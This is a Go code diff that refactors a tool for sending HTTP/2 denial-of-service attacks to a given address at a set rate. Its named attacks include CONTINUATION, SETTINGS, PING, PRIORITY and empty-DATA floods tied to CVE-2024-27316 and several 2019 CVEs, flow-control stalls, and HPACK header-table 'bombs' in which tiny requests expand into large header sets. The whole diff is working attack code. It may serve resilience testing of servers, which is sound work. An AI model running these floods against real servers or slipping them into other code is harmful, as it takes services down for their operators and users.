@@ -11,11 +11,11 @@ import (
 	"golang.org/x/net/http2/hpack"
 )
 
-// attack is what an attacker sends.
+// attack is what an attacker sends. Its functions write frames, mostly of a stream with the number id.
 type attack struct {
 	settings []http2.Setting
-	before   func(f *http2.Framer)            // first on each connection, if it is not nil
-	each     func(f *http2.Framer, id uint32) // again and again. id is the number of a new stream, from 3 on
+	before   func(f *http2.Framer, id uint32) // first on each connection, if it is not nil. id is 1
+	each     func(f *http2.Framer, id uint32) // again and again, if it is not nil. id is that of a new stream, from 3 on
 	once     bool                             // each connection has one burst, and is closed
 }
 
@@ -23,8 +23,8 @@ type attack struct {
 var names = strings.Split("connects,resets,faults,continuations,settings,pings,windows,priority,empty,tiny,dribble,stalled,bomb,"+
 	"references,crumbs", ",")
 
-// attacks are by name. The first three are none, and the last three forms of the HTTP/2 Bomb of 2026: 64 KiB of fields for each 60
-// bytes, and 10,000 fields in each head.
+// attacks are by name. The first three are none, and the last three forms of the HTTP/2 Bomb of 2026: 64 KiB of fields for each
+// 60 bytes, and 10,000 fields in each head.
 var attacks = map[string]attack{
 	"nothing":  {},
 	"gets":     {each: request("/small")},
@@ -37,33 +37,22 @@ var attacks = map[string]attack{
 		request("/wait")(f, id)
 		_ = f.WriteRawFrame(http2.FrameWindowUpdate, 0, id, make([]byte, 4))
 	}},
-	"continuations": { // CVE-2024-27316
-		before: func(f *http2.Framer) { _ = f.WriteRawFrame(http2.FrameHeaders, 0, 1, nil) },
-		each:   func(f *http2.Framer, _ uint32) { _ = f.WriteRawFrame(http2.FrameContinuation, 0, 1, nil) },
-	},
-	// CVE-2019-9515, -9512, and -9513, which is PRIORITY.
-	"settings": {each: func(f *http2.Framer, _ uint32) { _ = f.WriteSettings() }},
-	"pings":    {each: func(f *http2.Framer, _ uint32) { _ = f.WritePing(false, [8]byte{}) }},
-	"priority": {each: func(f *http2.Framer, _ uint32) { _ = f.WriteRawFrame(http2.FramePriority, 0, 1, make([]byte, 5)) }},
-	"windows":  {each: func(f *http2.Framer, _ uint32) { _ = f.WriteWindowUpdate(0, 1) }},
-	"empty":    {before: post, each: data("")}, // CVE-2019-9518
-	"tiny":     {before: post, each: data("x")},
-	"dribble": { // CVE-2019-9511
-		settings: closed,
-		before:   func(f *http2.Framer) { request("/large")(f, 1) },
-		each: func(f *http2.Framer, _ uint32) {
-			_ = f.WriteWindowUpdate(1, 1)
-			_ = f.WriteWindowUpdate(0, 1)
-		},
-	},
-	"stalled": { // 100 answers of 1 MiB for which there is never a window
-		settings: closed,
-		before: func(f *http2.Framer) {
-			for id := range uint32(100) {
-				request("/large")(f, 2*id+1)
-			}
-		},
-	},
+	"continuations": {before: zeros(http2.FrameHeaders, 1, 0), each: zeros(http2.FrameContinuation, 1, 0)}, // CVE-2024-27316
+	"settings":      {each: zeros(http2.FrameSettings, 0, 0)},                                              // CVE-2019-9515
+	"pings":         {each: zeros(http2.FramePing, 0, 8)},                                                  // CVE-2019-9512
+	"priority":      {each: zeros(http2.FramePriority, 1, 5)},                                              // CVE-2019-9513
+	"windows":       {each: func(f *http2.Framer, _ uint32) { _ = f.WriteWindowUpdate(0, 1) }},
+	"empty":         {before: post, each: zeros(http2.FrameData, 1, 0)}, // CVE-2019-9518
+	"tiny":          {before: post, each: zeros(http2.FrameData, 1, 1)},
+	"dribble": {settings: closed, before: request("/large"), each: func(f *http2.Framer, _ uint32) { // CVE-2019-9511
+		_ = f.WriteWindowUpdate(1, 1)
+		_ = f.WriteWindowUpdate(0, 1)
+	}},
+	"stalled": {settings: closed, before: func(f *http2.Framer, _ uint32) { // 100 answers of 1 MiB for which there is never a window
+		for id := range uint32(100) {
+			request("/large")(f, 2*id+1)
+		}
+	}},
 	"bomb":       bomb("a", 4000, 20),
 	"references": bomb("a", 0, 10_000),
 	"crumbs":     bomb("cookie", 1, 10_000),
@@ -84,20 +73,18 @@ func request(path string) func(*http2.Framer, uint32) { return headers(block(met
 
 // headers is a request without a body.
 func headers(block []byte) func(*http2.Framer, uint32) {
-	p := http2.HeadersFrameParam{BlockFragment: block, EndStream: true, EndHeaders: true}
 	return func(f *http2.Framer, id uint32) {
-		p := p // attackers run side by side
-		p.StreamID = id
-		_ = f.WriteHeaders(p)
+		_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true})
 	}
 }
 
-func post(f *http2.Framer) {
-	_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block(methodPost, "/discard"), EndHeaders: true})
+func post(f *http2.Framer, id uint32) {
+	_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block(methodPost, "/discard"), EndHeaders: true})
 }
 
-func data(text string) func(*http2.Framer, uint32) {
-	return func(f *http2.Framer, _ uint32) { _ = f.WriteData(1, false, []byte(text)) }
+// zeros is a frame without flags, with n zeros.
+func zeros(t http2.FrameType, stream uint32, n int) func(*http2.Framer, uint32) {
+	return func(f *http2.Framer, _ uint32) { _ = f.WriteRawFrame(t, 0, stream, make([]byte, n)) }
 }
 
 // bomb puts a field into the table, and sends requests whose heads have references to it, of one byte each.
@@ -107,7 +94,7 @@ func bomb(name string, value, references int) attack {
 	_ = hpack.NewEncoder(&field).WriteField(hpack.HeaderField{Name: name, Value: strings.Repeat("v", value)}) // a Buffer takes it
 	return attack{
 		settings: closed,
-		before:   func(f *http2.Framer) { headers(field.Bytes())(f, 1) },
+		before:   headers(field.Bytes()),
 		each:     headers(append(block(methodGet, "/small"), strings.Repeat("\xbe", references)...)),
 	}
 }
@@ -139,28 +126,23 @@ func (a attack) run(addr string, rate int) {
 		}
 		_ = c.(*net.TCPConn).SetLinger(0) // ports need not wait
 		begin(c, a.settings...)
-		over := make(chan bool)
 		go func() {
 			_, _ = io.Copy(io.Discard, c)
-			close(over)
+			c.Close() // so the next Write fails
 		}()
 		if out.Reset(); a.before != nil {
-			a.before(f)
+			a.before(f, 1)
 		}
-		for id, going := uint32(3), true; going; {
+		for id := uint32(3); err == nil; {
 			for more := a.each != nil; more; id += 2 {
 				a.each(f, id)
 				more = !a.once && out.Len() < burst
 			}
-			n, err := c.Write(out.Bytes())
+			_, err = c.Write(out.Bytes())
+			next = next.Add(time.Duration(max(out.Len(), burst)) * time.Second / time.Duration(rate))
 			out.Reset()
-			next = next.Add(time.Duration(max(n, burst)) * time.Second / time.Duration(rate))
-			time.Sleep(max(time.Millisecond, time.Until(next)))
-			select {
-			case <-over:
-				going = false
-			default:
-				going = err == nil && !a.once
+			if time.Sleep(max(time.Millisecond, time.Until(next))); a.once {
+				break
 			}
 		}
 		c.Close()
